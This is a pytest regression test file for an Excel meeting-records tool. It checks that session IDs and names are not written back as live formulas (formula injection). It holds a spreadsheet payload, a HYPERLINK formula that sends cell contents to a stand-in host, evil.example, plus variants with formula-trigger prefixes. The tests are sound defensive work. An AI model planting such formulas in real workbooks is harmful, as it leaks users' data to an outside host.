"""Workbook text never comes back as a live formula (issue 11: formula injection).

A session id typed as ``" =HYPERLINK(…)"`` passed the loader (it strips the space) and the send
wrote it into every row of ``Versand`` as a formula. The loader refuses ids and references that
Excel would read as a formula; whatever else the office typed is checked in the written file.
"""

from __future__ import annotations

import openpyxl
import pytest

from kpr_excel.app.jobs import new_workbook
from kpr_excel.book.demo import demo_data
from kpr_excel.book.layout import SheetRows
from kpr_excel.book.loader import load_book
from kpr_excel.domain import schema
from tests.sending.conftest import SESSION, STICHTAG, assert_clean_exit, before_invitation, send

EVIL = ' =HYPERLINK("https://evil.example/?d="&A1,"KPR")'


def _book(data: dict) -> dict:
    book = {}
    for sheet in schema.SHEETS:
        rows = [(1, tuple(c.header for c in sheet.columns))]
        rows += [(n, tuple(row.get(c.key) for c in sheet.columns)) for n, row in enumerate(data.get(sheet.name, ()), 2)]
        book[sheet.name] = SheetRows(sheet.name, tuple(rows))
    return book


@pytest.mark.parametrize("start", ["=", "+", "-", "@", " =", "\xa0@"])
def test_an_id_that_excel_would_read_as_a_formula_is_a_data_error_with_its_cell(start):
    data = demo_data(STICHTAG)
    row = next(n for n, r in enumerate(data["Sitzungen"], 2) if r["id"] == SESSION)
    data["Sitzungen"][row - 2]["id"] = start + 'HYPERLINK("https://evil.example","x")'
    member = data["Arbeitsgruppen"][0]
    member["members"] = f"{member['members']}, +P01"
    loaded = load_book(_book(data))
    mine = [f for f in loaded.findings if "HYPERLINK" in f.message or "+P01" in f.message]
    members_column = schema.column_letter([c.key for c in schema.SHEETS_BY_NAME["Arbeitsgruppen"].columns]
                                          .index("members") + 1)
    assert [(f.code, f.location.sheet, f.location.row, f.location.column) for f in mine] == [
        ("DATA-2", "Sitzungen", row, "A"), ("DATA-2", "Arbeitsgruppen", 2, members_column)]
    assert "Formel" in mine[0].message and "+P01" in mine[1].message
    assert all(not s.id.startswith(("=", "+", "-", "@")) for s in loaded.model.sessions)
    assert all("+P01" not in g.members for g in loaded.model.working_groups)


def _formulas(path) -> list[str]:
    """Every formula cell of the written workbook that was built from the office's text."""
    workbook = openpyxl.load_workbook(path)
    return [f"{ws.title}!{cell.coordinate}: {cell.value}" for ws in workbook.worksheets for row in ws.iter_rows()
            for cell in row if cell.data_type == "f" and "evil.example" in str(cell.value)]


@pytest.mark.slow
def test_after_a_send_no_cell_holds_a_formula_made_of_workbook_text(tmp_path):
    data = before_invitation(demo_data(STICHTAG))
    evil_id = EVIL
    # the session's id as the office might type it, everywhere the session is named
    for sheet in ("Sitzungen", "Tagesordnung", "Anwesenheit", "Beschluesse"):
        for row in data[sheet]:
            for key in ("id", "session"):
                if row.get(key) == SESSION:
                    row[key] = evil_id
    for row in data["Mitglieder"][:3]:  # and text that is not an id: names, a place
        row["last_name"] = EVIL
    path = new_workbook(tmp_path / "KPR.xlsx", data=data)
    result = send(path, session=evil_id.strip())
    assert_clean_exit(result, result.exit_code)
    assert _formulas(path) == []
    # and the session that is fine, with the evil names, goes out without writing one either
    data = before_invitation(demo_data(STICHTAG))
    for row in data["Mitglieder"][:3]:
        row["last_name"] = EVIL
    other = new_workbook(tmp_path / "zwei" / "KPR.xlsx", data=data)
    send(other)
    assert _formulas(other) == []
